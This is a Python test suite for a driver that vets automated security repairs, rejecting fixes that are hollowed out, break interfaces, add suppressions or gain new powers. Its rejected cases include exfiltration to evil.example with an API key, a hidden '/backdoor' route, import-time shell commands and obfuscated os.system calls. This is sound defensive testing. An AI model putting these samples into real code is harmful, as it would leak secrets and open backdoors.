"""The gates that need no scan: what a repair may change, and what it must not."""
import json
import os
import pathlib
import subprocess
import textwrap

import pytest

ROOT = pathlib.Path(__file__).resolve().parents[2]
DRIVER = ROOT / os.environ.get("TEST_BUILD", "build") / "fix" / "driver"
pytestmark = pytest.mark.skipif(not DRIVER.exists(), reason=f"{DRIVER} is not built")


def judge(before, after, **more):
    row = {"before": textwrap.dedent(before), "after": textwrap.dedent(after), **more}
    done = subprocess.run([DRIVER], input=json.dumps(row) + "\n", capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stderr == ""
    return json.loads(done.stdout)


def refused(before, after, gate, words="", **more):
    got = judge(before, after, **more)
    assert not got["accepted"]
    assert got[gate]["state"] == "failed", got
    assert words in got[gate]["evidence"]


def accepted(before, after, **more):
    got = judge(before, after, **more)
    assert got["accepted"], {k: v for k, v in got.items() if k != "accepted" and v["state"] == "failed"}
    return got


RUN = """
import subprocess

def run(name):
    if not name:
        raise ValueError("no name")
    out = subprocess.check_output("ls " + name, shell=True)
    return out.decode()
"""


def test_a_good_repair():
    accepted(RUN, RUN.replace('"ls " + name, shell=True', '["ls", "--", name]'))


def test_changed():
    refused(RUN, RUN, "changed", "the same")
    refused(RUN, RUN.replace("import subprocess", "import subprocess  # now safe"), "changed", "blanks and comments")


def test_parses():
    refused(RUN, RUN + "def (:\n", "parses", "line ")
    refused("x = f()\n", "match x:\n    case 1:\n        f()\n", "parses", "needs Python 3.10")
    accepted("match f():\n    case 1:\n        g(1)\n", "match f():\n    case 1:\n        g(2)\n")


# ---- not hollowed out

@pytest.mark.parametrize("body", [
    "pass", "...", "return None", "return ''", "raise NotImplementedError", "raise ValueError('not allowed')",
    "'''Removed for safety.'''", "'''Doc.'''\n    return None"])
def test_an_emptied_body(body):
    refused(RUN, f"import subprocess\n\ndef run(name):\n    {body}\n", "not hollowed out")


def test_a_deleted_function():
    two = RUN + "\ndef other(a):\n    return len(a) + 1\n"
    refused(two, RUN.replace("ls", "dir"), "not hollowed out", "other was deleted")
    private = RUN + "\ndef _other(a):\n    return len(a) + 1\n"
    refused(private, RUN.replace("ls", "dir"), "not hollowed out", "_other was deleted")


def test_a_helper_folded_into_its_caller():
    before = """
    def _quote(a):
        return a.strip().replace("'", "''")

    def find(db, name):
        return db.execute("SELECT * FROM t WHERE n = '%s'" % _quote(name)).fetchall()
    """
    after = """
    def find(db, name):
        return db.execute("SELECT * FROM t WHERE n = ?", (name.strip().replace("'", ""),)).fetchall()
    """
    accepted(before, after)


def test_calls_gone_without_a_replacement():
    refused("def f(x):\n    check(x)\n    save(x)\n    log(x)\n    return x + 1\n",
            "def f(x):\n    return x + 2\n", "not hollowed out", "lost 3 of its 3 calls")


def test_return_gone():
    refused("def f(x):\n    return eval(x)\n", "def f(x):\n    int(x)\n", "not hollowed out", "no longer returns")


def test_yield_gone():
    refused("def f(x):\n    for i in x:\n        yield eval(i)\n", "def f(x):\n    for i in x:\n        int(i)\n",
            "not hollowed out", "yields")


@pytest.mark.parametrize("handler", ["except:\n        pass", "except Exception:\n        return ''",
                                     "except Exception:\n        pass\n    return ''",
                                     "except BaseException:\n        ..."])
def test_swallowed_exceptions(handler):
    after = f"import subprocess\n\ndef run(name):\n    if not name:\n        raise ValueError('no name')\n    try:\n" \
            f"        return subprocess.check_output(['ls', name]).decode()\n    {handler}\n"
    refused(RUN, after, "not hollowed out", "swallows")


def test_a_narrow_handler_is_fine():
    before = "def f(x):\n    try:\n        return eval(x)\n    except NameError:\n        return None\n"
    after = "import ast\n\ndef f(x):\n    try:\n        return ast.literal_eval(x)\n    except (ValueError, SyntaxError):\n" \
            "        return None\n"
    accepted(before, after)


@pytest.mark.parametrize("after", [
    "def f(x):\n    return 1\n    y = eval(x)\n    return g(y)\n",
    "def f(x):\n    raise ValueError\n    y = eval(x)\n    return g(y)\n",
    "def f(x):\n    if False:\n        y = eval(x)\n        return g(y)\n    return h(x)\n",
    "def f(x):\n    while 0:\n        y = eval(x)\n        return g(y)\n    return h(x)\n"])
def test_code_that_can_not_run(after):
    refused("def f(x):\n    y = eval(x)\n    return g(y)\n", after, "not hollowed out", "never run")


def test_branches_and_size():
    before = "def f(x):\n" + "".join(f"    if x == {i}:\n        x = g{i}(x)\n" for i in range(6)) + "    return x\n"
    after = "def f(x):\n    x = g0(g1(g2(g3(g4(g5(x))))))\n    return x\n"
    refused(before, after, "not hollowed out", "branches")
    before = "def f(x):\n" + "".join(f"    a{i} = x + {i}\n" for i in range(9)) + "    return a1\n"
    refused(before, "def f(x):\n    return x + 1\n", "not hollowed out", "statements")


def test_a_library_call_in_the_place_of_a_loop():
    before = "import hmac\ndef same(a, b):\n    if len(a) != len(b):\n        return False\n    for i in range(len(a)):\n" \
             "        if a[i] != b[i]:\n            return False\n    return True\n"
    accepted(before, "import hmac\ndef same(a, b):\n    return hmac.compare_digest(a, b)\n")


def test_module_code():
    before = "import a\nx = a.load()\na.run(x)\na.save(x)\na.close()\n"
    refused(before, "import a\nx = 1\n", "not hollowed out", "module's own code")


def test_methods_and_nested_functions():
    before = "class C:\n    def m(self, x):\n        def inner():\n            return eval(x)\n        return inner()\n"
    refused(before, before.replace("return eval(x)", "pass"), "not hollowed out", "C.m.<locals>.inner")
    accepted(before, before.replace("eval(x)", "int(x)"))


# ---- interface

@pytest.mark.parametrize("old, new, words", [
    ("def f(a, b):", "def f(a):", "parameter b"), ("def f(a, b):", "def f(b, a):", "moved"),
    ("def f(a, b=1):", "def f(a, b):", "demands b"), ("def f(a, b):", "def f(a, b, c):", "new parameter c"),
    ("def f(a, b):", "def f(a, *, b):", "takes b"), ("def f(a, b):", "def f(a, c, d):", "parameter b"),
    ("def f(a, *b):", "def f(a):", "no longer takes"), ("def f(a, **b):", "def f(a):", "no longer takes"),
    ("def f(a, b):", "def f(z=0, a=1, b=2):", "moved"), ("def f(a, b):", "async def f(a, b):", "async"),
    ("def f(a, *, b=1):", "def f(a, *, b):", "demands b")])
def test_signatures(old, new, words):
    refused(old + "\n    return eval(a)\n", new + "\n    return int(a)\n", "interface kept", words)


@pytest.mark.parametrize("old, new", [
    ("def f(a):", "def f(a, b=1):"), ("def f(a, /):", "def f(a):"), ("def f(a):", "def f(a, *, k=None):"),
    ("def f(a: str):", "def f(a: int) -> int:"), ("def f(a):", "def f(a, **kw):"), ("def f(a, b):", "def f(a, b=2):")])
def test_allowed_signatures(old, new):
    accepted(old + "\n    return eval(a)\n", new + "\n    return int(a)\n")


def test_a_name_that_nobody_passes_may_change():
    """The people of RQ3 took such repairs; a caller by keyword, a decorator or a class makes the name matter."""
    old, new = "def f(a, b):\n    return eval(a) + b\n", "def f(text, b):\n    return int(text) + b\n"
    accepted(old, new)
    accepted(old + "x = f('1', 2)\n", new + "x = f('1', 2)\n")
    for call in ("x = f(a='1', b=2)\n", "x = f('1', b=2, **more)\n"):
        refused(old + call, new + call, "interface kept", "parameter a")
    refused("@app.get('/')\n" + old, "@app.get('/')\n" + new, "interface kept", "parameter a")
    refused("class C:\n    def f(self, a):\n        return eval(a)\n", "class C:\n    def f(self, t):\n        return int(t)\n",
            "interface kept", "parameter a")
    refused("def f(a, *, b):\n    return eval(a)\n", "def f(a, *, c):\n    return int(a)\n", "interface kept", "parameter b")


def test_private_signatures_may_change():
    accepted("def _f(a, b):\n    return eval(a)\n", "def _f(a):\n    return int(a)\n")


ROUTE = """
@app.route("/x", methods=["GET", "POST"])
@login_required
def view():
    return eval(request.args["x"])
"""


def test_decorators():
    fixed = ROUTE.replace("eval(", "int(")
    accepted(ROUTE, fixed)
    accepted(ROUTE, fixed.replace("@login_required", "@login_required\n@limited"))
    accepted(ROUTE, fixed.replace('"/x", methods', "'/x',   methods"))
    refused(ROUTE, fixed.replace("@login_required\n", ""), "interface kept", "login_required")
    refused(ROUTE, fixed.replace('"/x"', '"/y"'), "interface kept", "app.route")
    accepted(ROUTE, fixed.replace("def view", "def view2"))
    refused(ROUTE.replace("@app.route", "@deco #"), fixed.replace("@app.route", "@deco #").replace("def view", "def view2"),
            "interface kept", "view is gone")


def test_a_decorator_that_is_the_fault_may_go():
    before = "@csrf_exempt\ndef view(request):\n    return save(request)\n"
    after = "def view(request):\n    return save(request)\n"
    refused(before, after, "interface kept")
    accepted(before, after, target=1)


def test_classes():
    before = "class C(Base, Mixin):\n    def m(self, a):\n        return eval(a)\n"
    after = before.replace("eval", "int")
    accepted(before, after)
    refused(before, after.replace(", Mixin", ""), "interface kept", "Mixin")
    refused(before, after.replace("def m(self, a)", "def m(self)").replace("int(a)", "int(self)"), "interface kept", "C.m")
    refused(before, after.replace("class C", "class D"), "interface kept", "class C is gone")


def test_all():
    before = "__all__ = ['f']\ndef f(a):\n    return eval(a)\n"
    refused(before, before.replace("['f']", "[]").replace("eval", "int"), "interface kept", "__all__")


# ---- suppression

@pytest.mark.parametrize("comment", ["# nosec", "# noqa: S602", "# suture: ignore[command-injection] fine", "#nosemgrep",
                                     "# NOSEC B602", "# pylint: disable=eval-used", "# lgtm[py/x]", "# NoQA"])
def test_suppressions(comment):
    after = RUN.replace("shell=True)", "shell=True, cwd='/')  " + comment)
    refused(RUN, after, "no suppression")


def test_a_kept_suppression_is_fine():
    before = RUN.replace("shell=True)", "shell=True)  # nosec")
    accepted(before, before.replace('"ls " + name, shell=True', '["ls", name]'))


# ---- imports

def test_imports(tmp_path):
    path = str(tmp_path / "a.py")
    before = "import os\ndef f(a):\n    return eval(a)\n"
    ast = "import ast\n" + before.replace("eval(", "ast.literal_eval(")
    assert accepted(before, ast, path=path)["imports resolve"]["state"] == "passed"
    other = "import bleach\n" + before.replace("eval(", "bleach.clean(")
    assert accepted(before, other, path=path)["imports resolve"]["state"] == "not available"
    (tmp_path / "requirements.txt").write_text("flask==2.0\n# not here: bleached\nbleacher\n")
    refused(before, other, "imports resolve", "bleach", path=path)
    (tmp_path / "requirements.txt").write_text("flask==2.0\nBleach>=4\n")
    accepted(before, other, path=path)
    own = "import helpers\n" + before.replace("eval(", "helpers.clean(")
    refused(before, own, "imports resolve", "helpers", path=path)
    (tmp_path / "helpers.py").write_text("")
    accepted(before, own, path=path)


FREE = """
import os

BASE = "/srv"

def read_all(names):
    return {n: open(os.path.join(BASE, n)).read() for n in names}
"""


@pytest.mark.parametrize("new", [
    "path = os.path.join(BASE, n)\n    return {n: open(path).read() for n in names}",
    "[n for n in names]\n    return open(n).read()",
    "return {k: open(join(BASE, k)).read() for k in names}",
    "def one(n):\n        return n\n    return [n for k in names]",
    "class A:\n        k = 1\n        def f(self):\n            return k\n    return names, A"])
def test_names_that_nothing_binds(new):
    old = "return {n: open(os.path.join(BASE, n)).read() for n in names}"
    refused(FREE, FREE.replace(old, new), "imports resolve", "where nothing binds it")


@pytest.mark.parametrize("new", [
    "return [open(k).read() for n in names if (k := os.path.join(BASE, n))]",
    "global LAST\n    LAST = names\n    return [LAST for n in LAST]",
    "try:\n        import json as j\n    except ImportError as e:\n        raise e\n    return j.dumps(names)",
    "get = lambda n, *a, k=BASE, **kw: (n, a, k, kw)\n    return [get(n) for n in names]",
    "with open(BASE) as f, f as g:\n        del f\n    return g, [(a, b) for a, *b in names], __name__",
    "match names:\n        case [a, *b]:\n            return a, b\n        case {'x': c, **d}:\n            return c, d",
    "class A:\n        k = 1\n        l = k\n    return names, A",
    "import os.path as p, xml.dom\n    return p, xml, [zip(n, map(str, n)) for n in names]"])
def test_names_that_are_bound(new):
    old = "return {n: open(os.path.join(BASE, n)).read() for n in names}"
    got = judge(FREE, FREE.replace(old, new))
    assert got["imports resolve"]["state"] == "passed", got


def test_imports_that_come_along(tmp_path):
    before = "from flask import Flask\ndef f(a):\n    return '<b>' + str(a)\n"
    after = "from markupsafe import escape\n" + before.replace("str(a)", "str(escape(a))")
    assert accepted(before, after)["imports resolve"]["state"] == "passed"


def test_hostile_texts():
    for text in ("", "\0", "\xff", "(" * 20000, "def f(:\n" * 200, "if x:\n" * 3000, "@" * 1000, "class C(" * 500):
        judge(RUN, text)
        judge(text, RUN)


# ---- several definitions of one name

TWICE = """
class A:
    @property
    def x(self):
        return self._x

    @x.setter
    def x(self, v):
        self._x = v

    @x.deleter
    def x(self):
        del self._x


@overload
def g(x: int) -> int: ...
@overload
def g(x: str) -> str: ...
def g(x):
    return eval(x)


@app.get("/a")
def handle():
    return a()


@app.post("/b")
def handle():
    return b()
"""


def test_names_that_are_defined_twice():
    accepted(TWICE, TWICE.replace("eval(", "int("))
    accepted(TWICE, TWICE.replace("return b()", "return str(b())"))
    refused(TWICE, TWICE.replace("    @x.setter\n", ""), "interface kept", "@x.setter")
    refused(TWICE, TWICE.replace('@app.post("/b")\n', ""), "interface kept", "/b")
    refused(TWICE, TWICE.replace('@app.get("/a")\ndef handle():\n    return a()\n', ""), "interface kept", "/a")
    refused(TWICE, TWICE.replace("self._x = v", "pass"), "not hollowed out")
    long = "".join(f"class C{i}{'x' * 60}:\n{'  ' * i}" + "  " for i in range(9)) + "def f(a): return eval(a)\n"
    accepted(long, long.replace("eval", "int"))


# ---- no new powers

DOOR = """
import subprocess
from flask import Flask, request

app = Flask(__name__)
API_KEY = load()


@app.get("/v")
def v():
    return {"v": eval(request.args["x"])}


def size(path):
    return subprocess.check_output(["du", path])
"""
MENDED = DOOR.replace("eval(", "ast.literal_eval(").replace("import subprocess\n", "import ast\nimport subprocess\n")


@pytest.mark.parametrize("old,new,words", [
    ("ast.literal_eval(", "__import__('subprocess').getoutput(", "by their names"),
    ("ast.literal_eval(request.args['x'])", "subprocess.run(['python3', '-c', request.args['x']])", "starts a program"),
    ("import ast\n", "import ast\nfrom os import popen as ast_eval\n", ""),
    ("    return {", "    sp.run(request.args['x'])\n    return {", "starts a program"),
    ("    return {", "    urllib.request.urlopen('http://evil.example/?k=' + API_KEY, timeout=3)\n    return {", "over the network"),
    ("API_KEY = load()", "API_KEY = load()\nPWN = os.popen('id').read()", "when it is imported"),
    ("API_KEY = load()", "API_KEY = load()\nPWN = subprocess.check_output('id')", "when it is imported"),
    ("\n\ndef size", "\n\n@app.get('/backdoor')\ndef door():\n    return API_KEY\n\n\ndef size", "/backdoor"),
    ("\n\ndef size", "\n\napp.add_url_rule('/backdoor', view_func=load)\n\n\ndef size", "new address"),
    ("ast.literal_eval(", "vars(os)['system'](", "by their names"),
    ("ast.literal_eval(", "sys.modules['os'].system(", "by their names"),
    ("ast.literal_eval(", "os.__dict__['system'](", "by their names"),
    ("ast.literal_eval(", "getattr(os, 'sys' + 'tem')(", "by their names"),
    ("ast.literal_eval(", "importlib.import_module('os').system(", "by their names"),
])
def test_new_powers(old, new, words):
    mended = MENDED.replace("import subprocess\n", "import subprocess\nimport subprocess as sp\n", 1)
    accepted(DOOR, mended)
    after = mended.replace('"', "'").replace(old, new)
    assert after != mended.replace('"', "'")
    if words:
        refused(DOOR, after, "nothing new", words)
    else:
        accepted(DOOR, after)


STRIPS = """
def clean(code, sh, requests):
    return open(code)


def later(jobs):
    socket = jobs.first()
    return open(socket.name)
"""
CLEAN = "\ndef clean(code, sh, requests):\n    return open(code)"


@pytest.mark.parametrize("old,new,words", [
    ("open(code)", "code.strip()", ""),
    ("open(code)", "requests.append(sh.lower())", ""),
    ("open(socket.name)", "socket.create_connection()", ""),
    ("open(socket.name)", "jobs.subprocess.run()", ""),
    (CLEAN, CLEAN.replace("\ndef", "import code\n\n\ndef").replace("open(code)", "code.strip()"), ""),
    (CLEAN, CLEAN.replace("\ndef", "import code\n\n\ndef").replace("(code)", "(code.interact())").replace("code, ", ""), "as code"),
    (CLEAN, CLEAN.replace("\ndef", "from subprocess import *\n\n\ndef").replace("open(", "run("), "starts a program"),
    (CLEAN, CLEAN.replace("\ndef", "from subprocess import *\n\n\ndef run(x):\n    pass\n\n\ndef").replace("open(", "run("), ""),
    (CLEAN, CLEAN.replace("\ndef", "from shutil import os\n\n\ndef").replace("open(", "os.system("), "starts a program"),
    (CLEAN, CLEAN.replace("\ndef", "import os.path\n\n\ndef").replace("open(", "os.system("), "starts a program"),
])
def test_powers_are_imported(old, new, words):
    after = STRIPS.replace(old, new)
    assert after != STRIPS
    if words:
        refused(STRIPS, after, "nothing new", words)
    else:
        assert "nothing new" not in judge(STRIPS, after)


def test_a_default_may_be_the_module_itself():
    old = "import subprocess\n\n\ndef count(path, subprocess=subprocess):\n    return open(path)\n"
    refused(old, old.replace("open(", "subprocess.run("), "nothing new", "starts a program")
    free = old.replace("=subprocess", "")
    accepted(free, free.replace("open(", "subprocess.append("))


def test_powers_that_move():
    ls = "def run(name):\n    return os.popen('ls ' + name).read()\n"
    accepted(ls, "def _ls(args):\n    return subprocess.run(args)\n\n\ndef run(name):\n    return _ls(['ls', '--', name])\n")
    accepted(ls, "def run(name):\n    if name == 'a':\n        return subprocess.run(['ls', 'a'])\n    return subprocess.run(['ls', 'b'])\n")
    get = "def get(url):\n    return requests.get(url).text\n"
    accepted(get, "HOSTS = {'example.com'}\n\n\ndef get(url):\n    if urlsplit(url).hostname not in HOSTS:\n"
                  "        raise ValueError(url)\n    return requests.get(url, timeout=5).text\n")
    refused(get, "def get(url):\n    requests.post('http://evil.example', url)\n    return requests.get(url).text\n", "nothing new", "evil.example")
    renamed = '@app.get("/a")\ndef a():\n    return eval(x())\n'
    accepted(renamed, '@app.get("/a")\ndef b():\n    return int(x())\n')
